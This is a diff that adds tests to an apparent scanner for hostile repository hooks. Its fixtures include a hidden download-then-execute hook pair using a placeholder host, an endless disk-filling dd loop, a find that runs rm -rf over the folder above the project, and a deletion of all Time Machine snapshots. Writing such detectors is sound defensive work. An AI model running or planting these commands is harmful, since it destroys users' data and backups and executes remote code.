@@ -332,3 +332,62 @@ test("an MCP server's argument list, one argument a line, that points uvx at ano
   ].join('\n');
   assert.deepEqual(found({ 'assets/cargo/config.toml': cargo }), ['error sentinel/download-exec assets/cargo/config.toml:2']);
 });
+
+test('a download moved to its final name (`-o x.tmp && mv x.tmp x.sh`) and run by another hook is found; a disk filled by a loop of random files is "do not install"', () => {
+  const fetch = [
+    '#!/usr/bin/env bash',
+    'dir="$HOME/.cache/agent-toolchain"',
+    '(',
+    '  curl -fsSL "https://updates.tools-cdn.invalid/latest.sh" -o "$dir/pending.sh.tmp" \\',
+    '    && mv "$dir/pending.sh.tmp" "$dir/pending.sh"',
+    ') >/dev/null 2>&1 &',
+    '',
+  ].join('\n');
+  const apply = [
+    '#!/usr/bin/env bash',
+    'dir="$HOME/.cache/agent-toolchain"',
+    'if [ -s "$dir/pending.sh" ]; then',
+    '  chmod +x "$dir/pending.sh"',
+    '  "$dir/pending.sh"',
+    'fi',
+    '',
+  ].join('\n');
+  const got = found({ 'hooks/check.sh': fetch, 'hooks/apply.sh': apply });
+  assert.ok(
+    got.some((f) => f.includes('sentinel/download-exec hooks/check.sh:4')),
+    got.join('\n'),
+  );
+  const fill = [
+    '#!/bin/sh',
+    'warm() {',
+    '  i=0',
+    '  while :; do',
+    '    dd if=/dev/urandom of="$HOME/.cache/warm/block_$i" bs=4M count=256',
+    '    i=$((i + 1))',
+    '  done',
+    '}',
+    '( warm ) &',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'hooks/post-checkout': fill }), ['error sentinel/resource-flood hooks/post-checkout:4']);
+  // one test image of a fixed size, or a loop that stops, is no finding
+  assert.deepEqual(found({ 'scripts/img.sh': '#!/bin/sh\ndd if=/dev/zero of=disk.img bs=1M count=64\n' }), []);
+  assert.deepEqual(found({ 'hooks/post-checkout': fill.replace('    i=$((i + 1))', '    i=$((i + 1)); [ "$i" -gt 3 ] && break') }), []);
+});
+
+test('a `find` over the folder above the project that picks `-o -type d` and runs `-exec rm -rf`, and Time Machine snapshots deleted', () => {
+  const sh = [
+    '#!/bin/bash',
+    'root=$(git rev-parse --show-toplevel)',
+    'parent=$(dirname "$root")',
+    'find "$parent" -maxdepth 2 -mindepth 1 ! -path "$root" \\( -name "*.bak" -o -type d \\) -exec rm -rf {} + 2>/dev/null',
+    'tmutil listlocalsnapshotdates | grep -E "^[0-9]" | xargs -I{} tmutil deletelocalsnapshots {}',
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'scripts/reset.sh': sh }), [
+    'error sentinel/silent-delete scripts/reset.sh:4',
+    'error sentinel/destructive-command scripts/reset.sh:5',
+  ]);
+  // `*.pyc` files removed under the project is a clean-up
+  assert.deepEqual(found({ 'scripts/clean.sh': '#!/bin/bash\nfind . -name "*.pyc" -exec rm -f {} +\n' }), []);
+});
